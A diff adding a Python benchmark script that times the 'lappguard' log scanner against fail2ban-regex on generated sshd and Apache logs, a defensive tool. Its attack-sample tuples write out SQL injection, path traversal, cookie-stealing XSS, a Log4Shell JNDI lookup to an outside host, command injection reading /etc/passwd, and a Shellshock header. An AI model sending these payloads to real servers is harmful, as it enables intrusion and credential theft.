@@ -1,0 +1,333 @@
+"""Detection throughput: ``lappguard scan`` against ``fail2ban-regex`` on the same input.
+
+    .venv/bin/python bench/detect.py [--lines 1000000] [--fail2ban-lines 100000]
+
+Generates a realistic 1M-line sshd auth.log (about 10% attack lines from a few thousand
+addresses, the rest benign sshd/cron/systemd/sudo lines) and a 1M-line Apache access log
+(real request shapes from ../shared/data/apache_access, a few percent attacks), then times:
+
+* ``agent.scan.scan`` in-process with the shipped rules and jails (what ``--format json``
+  computes), and the real ``lappguard scan --format json`` command once;
+* ``fail2ban-regex <auth.log> /etc/fail2ban/filter.d/sshd.conf`` on a slice (it is far
+  slower; the ratio compares lines per second on the same kind of input), with the number
+  of lines each tool matched on that slice;
+* Python ``re`` against google-re2 (``pip install google-re2``) on the shipped patterns, the
+  measurement behind keeping ``re``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+from agent.detect import Detector  # noqa: E402
+from agent.jails import load_jails  # noqa: E402
+from agent.rules import load_rules  # noqa: E402
+from agent.scan import ScanOptions, scan  # noqa: E402
+
+SHARED = ROOT.parent / "shared" / "data"
+MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
+USERS = ("admin", "test", "oracle", "ubuntu", "user", "postgres", "git", "ftpuser", "guest", "pi")
+
+# --------------------------------------------------------------------------- generators
+
+
+def _stamp(seconds: int) -> str:
+    """A syslog stamp in October, one line every few hundred milliseconds."""
+    day, rest = divmod(seconds, 86400)
+    return f"Oct {1 + day % 28:>2} {rest // 3600:02d}:{rest % 3600 // 60:02d}:{rest % 60:02d}"
+
+
+def _address(rng: random.Random) -> str:
+    return ".".join(str(rng.randrange(1, 224 if i == 0 else 255)) for i in range(4))
+
+
+def generate_auth_log(path: Path, count: int, seed: int = 1) -> None:
+    """A busy server's auth.log: sessions, cron and sudo, plus brute force from ~3000 hosts.
+
+    Attack lines come as real OpenSSH 9 writes them, a whole connection at a time.
+    """
+    rng = random.Random(seed)
+    attackers = [_address(rng) for _ in range(3000)]
+    admins = [f"198.51.100.{i}" for i in range(2, 40)]
+    written = pid = 0
+    with path.open("w") as out:
+        while written < count:
+            pid += 1
+            now = _stamp(written // 3)
+            head = f"{now} web1 "
+            if rng.random() < 0.07:  # one attack connection (3-6 lines): ~10% of all lines
+                ip, port = rng.choice(attackers), rng.randrange(1024, 65535)
+                if rng.random() < 0.6:
+                    user = rng.choice(USERS)
+                    lines = [
+                        f"sshd[{pid}]: Invalid user {user} from {ip} port {port}",
+                        f"sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown",
+                        f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}",  # noqa: E501
+                        f"sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2",  # noqa: E501
+                        f"sshd[{pid}]: Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",  # noqa: E501
+                        f"sshd[{pid}]: Disconnected from invalid user {user} {ip} port {port} [preauth]",  # noqa: E501
+                    ]
+                else:
+                    lines = [
+                        f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root",  # noqa: E501
+                        f"sshd[{pid}]: Failed password for root from {ip} port {port} ssh2",
+                        f"sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]",  # noqa: E501
+                    ]
+            else:
+                ip, port = rng.choice(admins), rng.randrange(1024, 65535)
+                lines = rng.choice(
+                    [
+                        [
+                            f"sshd[{pid}]: Accepted publickey for deploy from {ip} port {port} ssh2: ED25519 SHA256:n8zmOzQ1/0cE5LzpHXR3c2FK4mBGh0pIt7oHqGxVpJc",  # noqa: E501
+                            f"sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",  # noqa: E501
+                            f"systemd-logind[512]: New session {pid} of user deploy.",
+                        ],
+                        [
+                            f"sshd[{pid}]: Received disconnect from {ip} port {port}:11: disconnected by user",  # noqa: E501
+                            f"sshd[{pid}]: Disconnected from user deploy {ip} port {port}",
+                            f"sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy",
+                            f"systemd-logind[512]: Session {pid} logged out. Waiting for processes to exit.",  # noqa: E501
+                        ],
+                        [
+                            f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",  # noqa: E501
+                            f"CRON[{pid}]: pam_unix(cron:session): session closed for user root",
+                        ],
+                        [
+                            f"sudo[{pid}]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload apache2",  # noqa: E501
+                            f"sudo[{pid}]: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)",  # noqa: E501
+                            f"systemd[1]: Started session-{pid}.scope - Session {pid} of User x.",
+                        ],
+                    ]
+                )
+            for line in lines[: count - written]:
+                out.write(head + line + "\n")
+            written += len(lines)
+
+
+ATTACK_TARGETS = (
+    "/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
+    "/index.php?page=../../../../etc/passwd",
+    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "/cgi-bin/status",
+    "/.env",
+    "/wp-config.php.bak",
+    "/phpmyadmin/index.php",
+    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
+    "/?x=${jndi:ldap://203.0.113.250/a}",
+    "/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd",
+)
+ATTACK_AGENTS = (
+    "Mozilla/5.0 (X11; Linux x86_64)",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001)",
+    "() { :; }; /bin/bash -c 'id'",
+)
+
+
+def generate_access_log(path: Path, count: int, seed: int = 2) -> None:
+    """Real request shapes (the elastic examples log), re-addressed; ~3% attack requests."""
+    rng = random.Random(seed)
+    source = SHARED / "apache_access" / "elastic_examples_apache_logs.log"
+    shapes = source.read_text().splitlines() if source.exists() else [_SYNTHETIC]
+    # (client, request...) of real lines: clients repeat as on a real site
+    shapes = [(line.split(" ", 1)[0], line.split("] ", 1)[1]) for line in shapes]
+    scanners = [_address(rng) for _ in range(400)]
+    with path.open("w") as out:
+        for number in range(count):
+            second = number // 12
+            day, hour = 1 + second // 86400 % 28, second // 3600 % 24
+            stamp = (
+                f"[{day:02d}/Oct/2025:{hour:02d}:{second // 60 % 60:02d}:{second % 60:02d} +0000]"
+            )
+            if rng.random() < 0.03:
+                target, agent = rng.choice(ATTACK_TARGETS), rng.choice(ATTACK_AGENTS)
+                status = rng.choice((200, 404, 403))
+                request = f'"GET {target} HTTP/1.1" {status} 512 "-" "{agent}"'
+                out.write(f"{rng.choice(scanners)} - - {stamp} {request}\n")
+            else:
+                client, request = rng.choice(shapes)
+                out.write(f"{client} - - {stamp} {request}\n")
+
+
+_SYNTHETIC = (
+    '192.0.2.1 - - [17/May/2015:10:05:03 +0000] "GET /index.html HTTP/1.1" 200 5120 '
+    '"http://example.org/" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/121.0"'
+)
+
+
+# --------------------------------------------------------------------------- measurements
+
+
+def time_scan(path: Path, kind: str) -> tuple[float, dict]:
+    rules = load_rules()
+    jails = load_jails(rule_ids=[r.id for r in rules])
+    options = ScanOptions(rules=rules, jails=jails, kind=kind)
+    started = time.perf_counter()
+    result = scan([str(path)], options)
+    elapsed = time.perf_counter() - started
+    c = result.counters
+    return elapsed, {
+        "lines": c.lines,
+        "matched": c.matched,
+        "events": c.events,
+        "bans": len(result.bans),
+        "addresses": len(result.by_ip),
+    }
+
+
+def time_cli(path: Path) -> tuple[float, dict]:
+    command = shutil.which("lappguard", path=str(ROOT / ".venv" / "bin")) or "lappguard"
+    started = time.perf_counter()
+    done = subprocess.run(
+        [command, "scan", "--format", "json", str(path)], capture_output=True, text=True, check=True
+    )
+    return time.perf_counter() - started, json.loads(done.stdout)
+
+
+def time_fail2ban(path: Path) -> tuple[float, int, int] | None:
+    tool = shutil.which("fail2ban-regex")
+    if tool is None:
+        return None
+    started = time.perf_counter()
+    done = subprocess.run(
+        [tool, str(path), "/etc/fail2ban/filter.d/sshd.conf"],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    elapsed = time.perf_counter() - started
+    found = re.search(r"Lines: (\d+) lines, (\d+) ignored, (\d+) matched", done.stdout)
+    assert found, done.stdout[-2000:]
+    return elapsed, int(found.group(1)), int(found.group(3))
+
+
+def lappguard_matched(path: Path) -> int:
+    detector = Detector(load_rules())
+    detector.feed_block(path.read_bytes(), "sshd", str(path))
+    return detector.counters.matched
+
+
+def compare_regex_engines(repeat: int = 20000) -> dict[str, float] | None:
+    """Microseconds per match of the shipped sshd patterns on attack messages, and how many
+    shipped patterns (all kinds) RE2 cannot compile (lookaheads, backreferences)."""
+    try:
+        import re2  # type: ignore[import-not-found]
+    except ImportError:
+        return None
+    messages = [
+        "Failed password for invalid user admin from 203.0.113.5 port 4242 ssh2",
+        "Invalid user oracle from 203.0.113.6 port 51000",
+        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
+        "rhost=203.0.113.7  user=root",
+    ]
+    rules = load_rules()
+    unsupported = 0
+    for pattern in [p for rule in rules for p in rule.patterns]:
+        try:
+            re2.compile(pattern)
+        except re2.error:
+            unsupported += 1
+    patterns = []
+    for pattern in [p for rule in rules if rule.kind == "sshd" for p in rule.patterns]:
+        try:
+            re2.compile(pattern)
+        except re2.error:
+            continue
+        patterns.append(pattern)
+    timings: dict[str, float] = {"unsupported_by_re2": unsupported, "compared": len(patterns)}
+    for name, engine in (("re", re), ("re2", re2)):
+        compiled = [engine.compile(p) for p in patterns]
+        started = time.perf_counter()
+        rounds = repeat // len(messages)
+        for _ in range(rounds):
+            for message in messages:
+                for regex in compiled:
+                    match = regex.match(message)
+                    if match:
+                        match.group("ip")
+        timings[name] = (
+            (time.perf_counter() - started) / (rounds * len(messages) * len(compiled)) * 1e6
+        )
+    return timings
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(
+        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
+    )
+    parser.add_argument("--lines", type=int, default=1_000_000)
+    parser.add_argument("--fail2ban-lines", type=int, default=100_000)
+    parser.add_argument("--keep", metavar="DIR", help="write the generated logs here")
+    args = parser.parse_args(argv)
+    work = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="lappguard-bench-"))
+    work.mkdir(parents=True, exist_ok=True)
+    try:
+        auth, access = work / "auth.log", work / "access.log"
+        generate_auth_log(auth, args.lines)
+        generate_access_log(access, args.lines)
+        sliced = work / "auth-slice.log"
+        _head(auth, sliced, args.fail2ban_lines)
+
+        print(f"sshd auth.log, {args.lines:,} lines ({auth.stat().st_size / 1e6:.0f} MB)")
+        seconds, counts = time_scan(auth, "sshd")
+        ours = _rate("lappguard scan (in-process)", seconds, counts["lines"], counts)
+        cli_seconds, report = time_cli(auth)
+        _rate(
+            "lappguard scan (command)", cli_seconds, report["lines"], {"events": report["events"]}
+        )
+        f2b = time_fail2ban(sliced)
+        if f2b is None:
+            print("  fail2ban-regex: not installed (apt-get install fail2ban)")
+        else:
+            f2b_seconds, f2b_lines, f2b_matched = f2b
+            theirs = _rate(f"fail2ban-regex, first {f2b_lines:,} lines", f2b_seconds, f2b_lines, {})
+            print(f"  ratio (lines/s, lappguard / fail2ban): {ours / theirs:.1f}x")
+            mine = lappguard_matched(sliced)
+            print(f"  matched lines of that slice: fail2ban {f2b_matched:,}, lappguard {mine:,}")
+
+        print(f"\nApache access log, {args.lines:,} lines ({access.stat().st_size / 1e6:.0f} MB)")
+        seconds, counts = time_scan(access, "apache_access")
+        _rate("lappguard scan (in-process)", seconds, counts["lines"], counts)
+
+        engines = compare_regex_engines()
+        if engines is None:
+            print("\nre vs re2: google-re2 not installed (pip install google-re2 to compare)")
+        else:
+            print(f"\nper match, {engines['compared']} shipped sshd patterns:", end="")
+            print(f" re {engines['re']:.2f} us, re2 {engines['re2']:.2f} us;", end="")
+            print(f" patterns RE2 cannot compile: {engines['unsupported_by_re2']}")
+    finally:
+        if not args.keep:
+            shutil.rmtree(work, ignore_errors=True)
+    return 0
+
+
+def _rate(label: str, seconds: float, lines: int, details: dict) -> float:
+    rate = lines / seconds
+    print(f"  {label:<36} {seconds:7.2f} s {rate:>12,.0f} lines/s  {details}")
+    return rate
+
+
+def _head(source: Path, target: Path, count: int) -> None:
+    with source.open("rb") as src, target.open("wb") as out:
+        for _ in range(count):
+            line = src.readline()
+            if not line:
+                break
+            out.write(line)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
